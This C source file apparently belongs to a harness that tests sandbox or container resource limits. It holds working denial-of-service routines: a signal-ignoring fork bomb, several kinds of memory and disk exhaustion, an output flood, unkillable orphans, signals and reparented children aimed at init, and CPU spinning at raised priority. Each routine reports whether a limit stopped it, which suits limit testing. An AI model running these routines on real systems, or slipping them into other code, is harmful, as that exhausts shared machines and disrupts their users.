// Denial of service. Each stops at a size that no machine minds: what a bound
// is worth shows in how far it comes.

#include "attack.h"
#include <sys/resource.h>

static volatile long *shared_counter(void)
{
	return mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
}

static void fork_bomb(void)
{
	long want = number("processes", 300), made = 0;
	volatile long *alive = shared_counter();
	pid_t pids[4096];
	int failed = 0;
	// Twice forked, deaf, in sessions of their own.
	for (; made < want && made < 4096; made++) {
		pid_t pid = fork();
		if (pid < 0) {
			failed = errno;
			break;
		}
		if (pid == 0) {
			setsid();
			for (int s = 1; s < 32; s++)
				signal(s, SIG_IGN);
			__sync_fetch_and_add(alive, 1);
			close(0), close(1), close(2);
			for (int i = 0; i < 100; i++) {
				if (fork() == 0 && number("deep", 0) == 0)
					_exit(0);
				usleep(20000);
			}
			_exit(0);
		}
		pids[made] = pid;
	}
	if (failed)
		line("TRIED", "fork", "%s after %ld", errno_name(failed), made);
	else
		line("GOT", "fork", "%ld processes", made);
	for (long i = 0; i < made; i++)
		kill(pids[i], SIGKILL);
}

static void fill(char *at, size_t size)
{
	for (size_t i = 0; i < size; i += 4096)
		at[i] = (char)i + 1;
}

// Takes memory in steps of 1 MiB; the limit must end it before the size.
static void memory_bomb(void)
{
	const char *kind = param("kind");
	long size = number("megabytes", 256), got = 0;
	static char block[1 << 20];
	memset(block, 7, sizeof block);
	int fd = -1, failed = 0;
	line("SAY", kind, "begins");
	if (!strcmp(kind, "memfd"))
		fd = memfd_create("bomb", 0);
	else if (!strcmp(kind, "tmpfs"))
		fd = open("/tmp/bomb", O_CREAT | O_RDWR, 0600);
	else if (!strcmp(kind, "shm"))
		fd = open("/dev/shm/bomb", O_CREAT | O_RDWR, 0600);
	for (; got < size; got++) {
		if (!strcmp(kind, "anonymous")) {
			char *p = mmap(0, sizeof block, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (p == MAP_FAILED) {
				failed = errno;
				break;
			}
			fill(p, sizeof block);
		} else if (!strcmp(kind, "shared")) {
			char *p = mmap(0, sizeof block, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
			if (p == MAP_FAILED) {
				failed = errno;
				break;
			}
			fill(p, sizeof block);
		} else if (!strcmp(kind, "pipes")) {
			int ends[2];
			if (pipe(ends)) {
				failed = errno;
				break;
			}
			fcntl(ends[1], 1031 /* F_SETPIPE_SZ */, 1 << 20);
			fcntl(ends[1], F_SETFL, O_NONBLOCK);
			ssize_t n = write(ends[1], block, sizeof block);
			if (n < (ssize_t)sizeof block) { // the user's share of pipe buffers is spent
				failed = n < 0 ? errno : EDQUOT;
				break;
			}
		} else if (!strcmp(kind, "processes")) {
			if (got % 16 == 0) {
				pid_t pid = fork();
				if (pid < 0) {
					failed = errno;
					break;
				}
				if (pid == 0) {
					char *p = mmap(0, 16 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
					if (p != MAP_FAILED)
						fill(p, 16 << 20);
					pause();
				}
			}
		} else if (write(fd, block, sizeof block) < (ssize_t)sizeof block) {
			failed = errno ? errno : ENOSPC;
			break;
		}
		if (number("slowly", 0))
			usleep((useconds_t)number("slowly", 0));
	}
	if (!strcmp(kind, "tmpfs"))
		unlink("/tmp/bomb");
	if (!strcmp(kind, "shm"))
		unlink("/dev/shm/bomb");
	if (failed)
		line("TRIED", kind, "%s after %ld MiB", errno_name(failed), got);
	else {
		usleep(600000); // where memory is watched by polling, the next look ends it
		line("GOT", kind, "%ld MiB", got);
	}
	kill(0, SIGKILL);
}

static void disk_bomb(void)
{
	long size = number("megabytes", 64), files_ = number("files", 0), got = 0;
	static char block[1 << 20];
	memset(block, 7, sizeof block);
	int failed = 0;
	line("SAY", "disk", "begins");
	if (files_) {
		mkdir("many", 0755);
		for (; got < files_; got++) {
			char path[64];
			snprintf(path, sizeof path, "many/%ld", got);
			int fd = open(path, O_CREAT | O_WRONLY, 0600);
			if (fd < 0) {
				failed = errno;
				break;
			}
			close(fd);
		}
	} else {
		int fd = open("big", O_CREAT | O_WRONLY, 0600);
		for (; got < size; got++)
			if (write(fd, block, sizeof block) < (ssize_t)sizeof block) {
				failed = errno;
				break;
			}
	}
	if (failed)
		line("TRIED", "disk", "%s after %ld", errno_name(failed), got);
	else {
		sleep(2);
		line("GOT", "disk", "%ld", got);
	}
}

static void output_flood(void)
{
	static char block[1 << 16];
	memset(block, 'x', sizeof block);
	for (size_t i = 127; i < sizeof block; i += 128)
		block[i] = '\n';
	line("TRIED", "flood", "begins");
	for (long left = number("megabytes", 200) * 16; left > 0; left--)
		if (write(1, block, sizeof block) < 0)
			break;
	line("END", "", "");
}

static void orphans(void)
{
	for (int i = 0; i < 20; i++)
		if (fork() == 0) {
			setsid();
			if (fork())
				_exit(0);
			setsid();
			for (int s = 1; s < 65; s++)
				signal(s, SIG_IGN);
			prctl(PR_SET_NAME, param("nonce"));
			prctl(PR_SET_PDEATHSIG, 0);
			int null = open("/dev/null", O_RDWR);
			dup2(null, 0), dup2(null, 1), dup2(null, 2);
			for (int n = 0; n < 40; n++)
				usleep(250000);
			_exit(0);
		}
	usleep(100000);
	line(bare() ? "SAY" : "TRIED", "orphans", "20 made");
}

static void confuse_init(void)
{
	int target = bare() ? (int)number("pid", 0) : 1;
	for (int s = 1; s < 65; s++) {
		if (s == SIGKILL && bare())
			continue;
		if (bare() && s != SIGSTOP)
			continue;
		if (kill(target, s) < 0)
			line("TRIED", "signal to init", "%d: %s", s, errno_name(errno));
	}
	line(bare() ? "GOT" : "TRIED", "every signal to init", "sent");
	if (bare())
		return;
	// Zombies, strangers, stopped children: all reparented to it.
	for (int i = 0; i < 200; i++) {
		pid_t pid = fork();
		if (pid < 0)
			break;
		if (pid == 0) {
			if (fork() == 0) {
				if (i % 3 == 0)
					raise(SIGSTOP);
				_exit(i);
			}
			_exit(0);
		}
		waitpid(pid, 0, 0);
	}
	struct rlimit small = {3, 3};
	// The threads of init lead to its limits too.
	for (int tid = 1; tid < 8; tid++)
		if (tid != getpid())
			judge("prlimit of init", syscall(SYS_prlimit64, tid, RLIMIT_NOFILE, &small, 0), REFUSED " ESRCH", "");
	line("TRIED", "strangers", "200 left to init");
}

static void deep_and_many(void)
{
	long depth = number("depth", 2000), links = number("links", 5000), made = 0, linked = 0;
	char start[4096];
	if (!getcwd(start, sizeof start))
		return;
	for (; made < depth; made++)
		if (mkdir("d", 0755) || chdir("d"))
			break;
	line(made == depth ? "TRIED" : "ODD", "nested directories", "%ld: %s", made, errno_name(errno));
	if (chdir(start))
		return;
	mkdir("links", 0755);
	for (; linked < links; linked++) {
		char a[64], b[64];
		snprintf(a, sizeof a, "links/f%ld", linked / 10000);
		snprintf(b, sizeof b, "links/%ld", linked);
		if (linked % 10000 == 0)
			close(open(a, O_CREAT | O_WRONLY, 0644));
		if (link(a, b))
			break;
	}
	line(linked == links ? "TRIED" : "ODD", "hard links", "%ld: %s", linked, errno_name(errno));
}

static void cpu_spin(void)
{
	judge("setpriority(-20)", setpriority(PRIO_PROCESS, 0, -20), "EACCES EPERM", "");
	struct sched_param p = {.sched_priority = 1};
	judge("sched_setscheduler(FIFO)", sched_setscheduler(0, SCHED_FIFO, &p), REFUSED, "");
	if (bare())
		return;
	line("END", "", "");
	for (int i = 0; i < 8; i++)
		if (fork() == 0) {
			signal(SIGTERM, SIG_IGN);
			for (;;)
				;
		}
	signal(SIGTERM, SIG_IGN);
	for (;;)
		;
}

const struct attack denial[] = {
	{"fork-bomb", fork_bomb}, {"memory-bomb", memory_bomb}, {"disk-bomb", disk_bomb}, {"output-flood", output_flood}, {"orphans", orphans}, {"confuse-init", confuse_init}, {"deep-and-many", deep_and_many}, {"cpu-spin", cpu_spin}, {0, 0},
};
